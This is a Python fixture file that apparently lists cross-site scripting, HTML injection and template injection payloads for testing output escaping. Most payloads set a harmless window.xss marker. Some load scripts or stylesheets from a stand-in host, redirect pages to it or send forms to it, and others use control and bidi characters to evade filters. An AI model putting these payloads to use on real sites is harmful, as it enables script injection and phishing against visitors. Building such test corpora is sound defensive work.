"""Texts that would become code on a page that shows text as markup. Each sets `window.xss` or opens a dialog."""

_RUN = "window.xss=1"
_PARENT = "parent.window.xss=1"

PAYLOADS = (
    # Elements that run code
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}//</sCrIpT >",
    "<script src=//evil.invalid/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}&#x3c;/script&gt;</svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<b style=animation-name:x onanimationstart={_RUN}>x</b>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:{_PARENT}'></iframe>",
    f"<iframe srcdoc='<script>{_PARENT}</script>'></iframe>",
    f"<template><script>{_RUN}</script></template>",
    # Out of an attribute, an element or a comment
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"x onpointerenter={_RUN} ",
    f"` onmouseover=`{_RUN}`",
    '"><img alt="the attribute is not closed',
    f"</textarea></title></style></select></noscript><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    # Out of a string of JSON or JavaScript
    f"</script><script>{_RUN}</script>",
    f'"}}]}};{_RUN};//',
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"';{_RUN}//\u2028{_RUN}//\u2029{_RUN}",
    f"${{{_RUN}}}`${{{_RUN}}}`",
    # Entities, once and twice
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    # Addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt://blog.example/%0a{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>{_PARENT}</script>",
    f"vbscript:{_RUN}",
    f'https://blog.example/"onmouseover="{_RUN}',
    f"https://blog.example/'><img src=x onerror={_RUN}>",
    f"[a link](javascript:{_RUN}) <a href=javascript:{_RUN}>a link</a>",
    # Templates
    "{{7*7}}{%if 1%}49{%endif%}<%=7*7%>#{7*7}",
    "{{constructor.constructor('window.xss=1')()}}",
    "{{request.application.__globals__}}%(name)s %s {name}",
    # What changes the page without code
    "<style>*{display:none!important}</style>",
    "</p><style>@import'//evil.invalid/x.css'</style>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<form action=//evil.invalid/><button>Post Comment</button>",
    "<div style=position:fixed;inset:0;z-index:9>",
    f"\u202e\u2066<img src=x onerror={_RUN}>\u2069",
    f"\x0b\x0c\x1b[31m\x7f\x85<img\x0csrc=x\x0bonerror={_RUN}>\u200b\ufeff",
)
"""None has a NUL, which is refused everywhere."""

ALL = " ".join(PAYLOADS)
"""All in one text."""

ONE_SEGMENT = " ".join(each for each in PAYLOADS if "/" not in each)
"""All that can be one segment of a path."""
